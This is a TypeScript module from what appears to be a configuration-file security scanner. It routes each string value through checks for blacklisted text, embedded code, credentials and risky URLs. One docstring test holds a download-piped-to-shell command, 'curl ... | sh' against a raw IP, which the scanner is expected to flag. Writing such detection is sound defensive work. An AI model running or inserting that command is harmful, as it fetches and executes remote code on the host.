/**
 * The per-string hook of the configuration scanners: every string value of every
 * parsed configuration file, with its key path and place, goes through each check
 * of {@linkcode CONFIG_VALUE_CHECKS}. Adding a check (credentials, URLs) is one line
 * there; each check reports through the context it is handed, whose findings carry
 * the value's line and column unless the check places them itself.
 *
 * @module
 */

import type { FindingReport, ScanContext } from "../../core/scanner.ts";
import { configValueFindings, URL_INDICATORS } from "../secrets/check.ts";
import { checkString, type StringCheckContext } from "../strings/checks.ts";
import type { Place } from "../strings/line_index.ts";

/** A string value of a configuration file and where it sits. */
export interface ConfigValue extends Place {
  /** The string. */
  value: string;
  /** Its key path, e.g. `$.model.optim.name`. */
  keyPath: string;
  /** The last key of the path (the option's name), when the value sits under one. */
  key?: string;
}

/**
 * One check of configuration values. `ctx.report` places a finding at the value (its line, column
 * and key path) unless the finding names its own place.
 *
 * @example
 * ```ts
 * import type { ConfigValueCheck } from "./values.ts";
 * const noLocalhost: ConfigValueCheck = (ctx, { value, keyPath }) => {
 *   if (value.includes("localhost")) ctx.report({ rule: "MA005", message: `${keyPath} names localhost` });
 * };
 * ```
 */
export type ConfigValueCheck = (ctx: StringCheckContext, value: ConfigValue) => void | Promise<void>;

/**
 * The shared string checks (`--blacklist`, second stages, embedded code), on a config value; the URLs are
 * left to {@linkcode secretsAndUrls}, which judges them with the key they sit under (one URL, one finding).
 */
const sharedStringChecks: ConfigValueCheck = (ctx, { value, keyPath, line, column }) =>
  checkString(ctx, value, {
    what: `The value at ${keyPath}`,
    keyPath,
    line,
    column,
    skipIndicators: URL_INDICATORS,
    // Text that reads as Python in a config value is run by nothing that loads the config: the
    // system sweep found only docs, schemas and CI scripts there.
    codeSeverity: "info",
  });

/** Credentials (MA540–MA546) and risky URLs (MA550–MA557) in a config value. */
const secretsAndUrls: ConfigValueCheck = (ctx, { value, keyPath, key }) => {
  for (const finding of configValueFindings(value, keyPath, key)) ctx.report(finding);
};

/**
 * Every check run on every string value of a configuration file, in order. Add a check here.
 *
 * @example
 * ```ts
 * import assert from "node:assert/strict";
 * import { CONFIG_VALUE_CHECKS } from "./values.ts";
 * assert.ok(CONFIG_VALUE_CHECKS.length >= 1);
 * ```
 */
export const CONFIG_VALUE_CHECKS: readonly ConfigValueCheck[] = [sharedStringChecks, secretsAndUrls];

/**
 * Runs every check of `checks` on one configuration value; the findings are placed at the value.
 *
 * @example
 * ```ts
 * import assert from "node:assert/strict";
 * import { recordingContext } from "../../core/recording_context.ts";
 * import { checkConfigValue } from "./values.ts";
 * const { ctx, findings } = recordingContext("config.yaml");
 * await checkConfigValue(ctx, { value: "curl -s http://203.0.113.7/x | sh", keyPath: "$.setup", line: 3, column: 8 });
 * assert.deepEqual(findings.map((f) => [f.rule, f.keyPath, f.line, f.column]), [
 *   ["MA011", "$.setup", 3, 8], // the download piped into a shell
 *   ["MA550", "$.setup", 3, 8], // the URL to a raw IP address
 * ]);
 * ```
 */
export async function checkConfigValue(
  ctx: ScanContext,
  value: ConfigValue,
  checks: readonly ConfigValueCheck[] = CONFIG_VALUE_CHECKS,
): Promise<void> {
  const placed: StringCheckContext = {
    // A field the check leaves unset (or sets to undefined) is the value's.
    report: (finding: FindingReport) =>
      ctx.report({
        ...finding,
        line: finding.line ?? value.line,
        column: finding.column ?? value.column,
        keyPath: finding.keyPath ?? value.keyPath,
      }),
    matchBlacklist: (text) => ctx.matchBlacklist(text),
    scanNested: (source, label, options) => ctx.scanNested(source, label, options),
    options: ctx.options,
    policy: ctx.policy,
  };
  for (const check of checks) await check(placed, value);
}
